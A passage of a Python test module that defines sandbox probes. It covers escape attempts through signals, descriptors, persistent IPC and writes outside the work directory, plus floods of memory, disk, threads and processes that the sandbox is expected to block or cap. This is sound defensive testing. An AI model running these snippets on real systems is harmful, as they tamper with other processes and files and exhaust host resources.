libc = ctypes.CDLL(None, use_errno=True)
parent, intel = os.getppid(), os.uname().machine == "x86_64"
one, whose = ctypes.c_int(1), ctypes.c_int(parent)

def call(name, *arguments):
    result = getattr(libc, name)(*arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result
"""


def _refused(name: str, attack: str, *tries: str) -> Hostile:
    """Each of these expressions must fail: it reaches another process, another's file, or something that stays."""
    code = [_TRIES, "open('own', 'w').close()"]
    for number, each in enumerate(tries):
        code += [f"def try_{number}():\n    return {each}", f"try:\n    try_{number}()\n    print('ALLOWED {number}')"]
        code += ["except (OSError, AttributeError, ValueError): pass"]
    return _import(name, attack, "\n".join(code))


def _bounded(name: str, most: int, one_more: str, *, before: str = "", step: int = 1) -> Hostile:
    """As often as it goes: `one_more` takes `step`, of which no more than `most` may be had."""
    code = f"""
{textwrap.dedent(before)}
taken, kept, end = 0, [], time.monotonic() + 4
try:
    while taken <= {most} and time.monotonic() < end:
        kept.append({one_more})
        taken += {step}
except (OSError, MemoryError, RuntimeError, ValueError) as error:
    print("no more:", error)
if taken > {most}:
    print("ALLOWED", taken)
kept.clear()
"""
    return _import(name, "resources", _TRIES + code)


REACHES = (
    _refused("owner-of-a-descriptor", "neighbors", "call('ioctl', 3, 0x8901, ctypes.byref(whose))"),
    _refused("owner-of-a-socket", "neighbors", "call('ioctl', 3, 0x8902, ctypes.byref(whose))"),
    _refused("signals-from-a-descriptor", "neighbors", "call('ioctl', 3, 0x5452, ctypes.byref(one))"),
    _refused("signals-by-a-flag", "neighbors", "call('fcntl', 3, 4, 0x2000)"),
    _refused("owner-by-fcntl", "neighbors", "call('fcntl', 3, 8, parent)", "call('fcntl', 1, 8, parent)"),
    _refused("owner-by-fcntl-extended", "neighbors", "call('fcntl', 3, 15, struct.pack('ii', 1, parent))"),
    _refused("signal-of-a-descriptor", "neighbors", "call('fcntl', 3, 10, 9)"),
    _refused("lease-on-a-file", "neighbors", "call('fcntl', os.open('own', 0), 1024, 0)"),
    _refused("notice-of-a-folder", "neighbors", "call('fcntl', os.open('.', 0), 1026, 1)"),
    _refused("locks-a-library", "neighbors", "call('flock', os.open(os.__file__, 0), 1)"),
    _refused("signals-by-a-handle", "neighbors", "call('syscall', 434, parent, 0)", "call('syscall', 424, 3, 0, 0, 0)"),
    _refused("signals-with-a-value", "neighbors", "call('sigqueue', parent, 0, None)"),
    _refused("signals-to-a-group", "neighbors", "os.killpg(0, 0)", "os.kill(0, 0)", "os.killpg(os.getpgid(parent), 0)"),
    _refused("timer-that-signals", "neighbors", "call('timer_create', 0, None, ctypes.create_string_buffer(8))"),
    _refused("survives-its-parent", "neighbors", "call('prctl', 1, 0, 0, 0, 0)"),
    _refused(
        "opens-its-memory-to-others", "neighbors", "call('prctl', 4, 1, 0, 0, 0)", "call('prctl', 0x59616d61, -1)"
    ),
    _refused("another-session", "neighbors", "os.setsid()", "os.setpgid(0, 0)", "os.setpgid(0, os.getpgid(parent))"),
    _refused("moves-its-parent", "neighbors", "os.sched_setaffinity(parent, {0})", "os.setpriority(0, parent, 9)"),
    _refused("input-output-priority", "neighbors", "call('syscall', 251 if intel else 30, 3, os.getuid(), 0x6000)"),
    _refused(
        "watches-files", "neighbors", "call('inotify_init')", "call('inotify_init1', 0)", "call('fanotify_init', 0, 0)"
    ),
    _refused("pair-of-sockets", "neighbors", "call('socketpair', 1, 2, 0, ctypes.create_string_buffer(8))"),
    _refused(
        "datagram-to-a-socket",
        "neighbors",
        "call('sendto', 3, b'x', 1, 0, struct.pack('H', 1) + b'\\0{marker}', 2 + 1 + len('{marker}'))",
        "call('connect', 3, struct.pack('H', 1) + b'\\0{marker}', 2 + 1 + len('{marker}'))",
    ),
    _refused(
        "socket-of-every-family",
        "neighbors",
        *(f"call('socket', {family}, 3, 0)" for family in (1, 2, 10, 16, 17, 38, 40)),
    ),
    _refused("passes-descriptors", "neighbors", "call('sendmsg', 3, ctypes.create_string_buffer(56), 0)"),
    _refused("listens-on-its-channel", "neighbors", "call('listen', 3, 1)", "call('accept', 3, None, None)"),
    _refused(
        "key-that-stays", "neighbors", "call('syscall', 248 if intel else 217, b'user', b'{marker}', b'1', 1, -4)"
    ),
    _refused("shared-memory-that-stays", "neighbors", "call('shmget', 0x5814, 4096, 0o1666)"),
    _refused("semaphore-that-stays", "neighbors", "call('semget', 0x5814, 1, 0o1666)"),
    _refused("queue-that-stays", "neighbors", "call('msgget', 0x5814, 0o1666)"),
    _refused("named-semaphore-that-stays", "neighbors", "open('/dev/shm/sem.{marker}', 'wb')"),
    _refused(
        "named-queue-that-stays",
        "neighbors",
        "call('syscall', 240 if intel else 180, b'{marker}', 0o102, 0o600, None)",
    ),
    _refused("bits-in-the-page-cache", "neighbors", "os.posix_fadvise(os.open(os.__file__, 0), 0, 0, 4)"),
    _refused(
        "looks-into-the-page-cache",
        "neighbors",
        "call('mincore', ctypes.c_void_p(4096), 4096, b'x')",
        "os.preadv(3, [bytearray(1)], 0, 8)",
    ),
    _refused(
        "process-accounting",
        "neighbors",
        "call('acct', b'own')",
        "call('sethostname', b'x', 1)",
        "call('swapoff', b'own')",
    ),
    _refused(
        "mode-changed", "results", "os.chmod('{canary}/alive', 0o777)", "os.fchmod(os.open('{canary}', 0), 0o777)"
    ),
    _refused("owner-changed", "results", "os.chown('{canary}/alive', os.getuid(), os.getgid())"),
    _refused(
        "times-changed", "results", "os.utime('{canary}/alive', (0, 0))", "os.utime(os.__file__, None)", "os.utime('.')"
    ),
    _refused(
        "attributes-set", "results", "os.setxattr('{canary}/alive', 'user.x', b'1')", "os.removexattr('.', 'user.x')"
    ),
    _refused("emptied-while-reading", "results", "os.open('{canary}/alive', os.O_RDONLY | os.O_TRUNC)"),
    _refused("cut-by-name", "results", "os.truncate('{canary}/alive', 0)", "os.truncate('own', 0)"),
    _refused("moved-out", "results", "os.rename('own', '{canary}/new')", "os.rename('own', '/tmp/{marker}')"),
    _refused("moved-in", "results", "os.rename('{canary}/alive', 'stolen')", "os.rename('{canary}', 'stolen')"),
    _refused(
        "hard-link-to-the-outside", "results", "os.link('{canary}/alive', 'hard')", "os.link('own', '/tmp/{marker}')"
    ),
    _refused(
        "climbs-out", "results", "open('../' * 15 + '{canary}/new', 'w')", "open('/proc/self/cwd/../../{marker}', 'w')"
    ),
    _refused("by-an-open-folder", "results", "os.open('{canary}/new', 65, 0o600, dir_fd=os.open('/', 0))"),
    _refused(
        "pipe-with-a-name", "results", "os.mkfifo('/tmp/{marker}')", "os.mkfifo('fifo')", "os.mknod('/tmp/{marker}')"
    ),
    _refused(
        "temporary-folders-written",
        "results",
        *(
            f"open('{folder}/{{marker}}', 'w')"
            for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/dev/mqueue")
        ),
    ),
    _refused("program-as-a-file", "results", "call('memfd_create', b'x', 0)", "call('syscall', 447, 0)"),
    _refused(
        "rings-and-maps",
        "resources",
        "call('syscall', 425, 8, ctypes.create_string_buffer(120))",
        "call('syscall', 321 if intel else 280, 0, None, 0)",
        "call('syscall', 323 if intel else 282, 0)",
        "call('syscall', 298 if intel else 241, None, 0, -1, -1, 0)",
    ),
    _refused(
        "locks-its-memory", "resources", "call('mlockall', 1)", "call('mlock', ctypes.create_string_buffer(8192), 8192)"
    ),
    _refused("writes-all-to-disk", "resources", "call('syscall', 162 if intel else 81)"),
    _refused(
        "real-time",
        "resources",
        "os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))",
        "os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1))",
    ),
)

BOUNDS = (
    _bounded("memory-without-a-mapping", 0, "call('memfd_create', b'x', 0)"),
    _bounded("memory-of-shared-pages", 2 << 30, "mmap.mmap(-1, 64 << 20)", step=64 << 20),
    _bounded("memory-without-reserve", 2 << 30, "mmap.mmap(-1, 64 << 20, flags=0x4002)", step=64 << 20),
    _bounded("memory-of-tensors", 2 << 30, "torch.empty(64 << 20, dtype=torch.uint8)", step=64 << 20),
    _bounded("memory-of-the-environment", 2 << 30, "os.putenv(str(taken), 'x' * (64 << 20))", step=64 << 20),
    _bounded(
        "memory-of-a-mapped-file",
        2 << 30,
        "mmap.mmap(os.open('own', os.O_RDWR), 1 << 20)",
        before="open('own', 'wb').truncate(1 << 20)",
        step=1 << 20,
    ),
    _bounded(
        "memory-in-pipes",
        8 << 20,
        "fill(*os.pipe())",
        before="def fill(out, into):\n    os.set_blocking(into, False)\n    return os.write(into, bytes(1 << 16))",
        step=1 << 16,
    ),
    _bounded("pipes-made-larger", 0, "call('fcntl', os.pipe()[1], 1031, 1 << 20)"),
    _bounded("descriptors-by-the-thousand", 128, "os.open('/dev/null', 0)"),
    _bounded("events-by-the-thousand", 0, "call('eventfd', 0, 0)"),
    _bounded("epolls-by-the-thousand", 0, "call('epoll_create1', 0)"),
    _bounded("timers-by-the-thousand", 0, "call('timerfd_create', 0, 0)"),
    _bounded("locks-by-the-thousand", 0, "call('fcntl', 1, 6, struct.pack('hhqqi4x', 0, 0, 2 * taken, 1, 0))"),
    _bounded("files-of-nothing", 64, "os.close(os.open(f'empty-{taken}', os.O_CREAT | os.O_WRONLY))"),
    _bounded("files-deleted-but-open", 64, "(open(f'gone-{taken}', 'w'), os.unlink(f'gone-{taken}'))"),
    _bounded("folders-of-nothing", 64, "os.mkdir(f'folder-{taken}')"),
    _bounded("folders-in-folders", 64, "(os.mkdir('d' * 200), os.chdir('d' * 200))"),
    _bounded("folders-without-a-mode", 64, "os.mkdir(f'locked-{taken}', 0)", before="os.umask(0o777)"),
    _bounded("files-with-odd-names", 64, "open(bytes([taken % 255 + 1]) * 200 + b'\\n\\xff\\x1b[2J', 'w').close()"),
    _bounded("links-by-the-thousand", 0, "(open('own', 'w'), os.link('own', f'link-{taken}'))"),
    _bounded("links-to-themselves", 0, "os.symlink(f'loop-{taken}', f'loop-{taken}')"),
    _bounded("disk-in-small-pieces", 64 << 20, "open(f'piece-{taken}', 'wb').write(bytes(1 << 20))", step=1 << 20),
    _bounded(
        "disk-in-one-piece",
        1 << 20,
        "file.write(bytes(1 << 16))",
        before="file = open('large', 'wb', buffering=0)",
        step=1 << 16,
    ),
    _bounded(
        "disk-set-aside",
        1 << 20,
        "os.posix_fallocate(file, taken, 1 << 16)",
        before="file = os.open('large', os.O_CREAT | os.O_RDWR)",
        step=1 << 16,
    ),
    _bounded(
        "disk-with-holes", 0, "os.truncate(file, 1 << 40)", before="file = os.open('sparse', os.O_CREAT | os.O_RDWR)"
    ),
    _bounded(
        "threads-with-small-stacks",
        64,
        "threading.Thread(target=time.sleep, args=(9,), daemon=True).start()",
        before="threading.stack_size(32768)",
    ),
    _bounded(
        "threads-one-after-another",
        64,
        "(lambda thread: (thread.start(), thread.join()))(threading.Thread(target=int))",
    ),
    _bounded("processes-by-clone", 0, "call('syscall', 56 if intel else 220, 17, 0, 0, 0, 0)"),
    _bounded("processes-by-spawn", 0, "os.posix_spawn('/bin/true', ['true'], {})"),
    _bounded("limits-raised-again", 0, "resource.setrlimit(resource.RLIMIT_AS, (1 << 50, 1 << 50))"),
)

HEAVY = tuple(Hostile(name, source, "parsers", max_score=90) for name, source in heavy.HEAVY.items())

HOSTILE: tuple[Hostile, ...] = (
    *EXITS,
    *STEERING,
    *FAKES,
    *SECRETS,
    *RESOURCES,
    *ODD_ANSWERS,
    *PROTOCOL,
    *NEIGHBORS,
    *RESULTS,
    *TERMINAL,
    *PARSERS,
    *REACHES,
    *BOUNDS,
    *HEAVY,
)
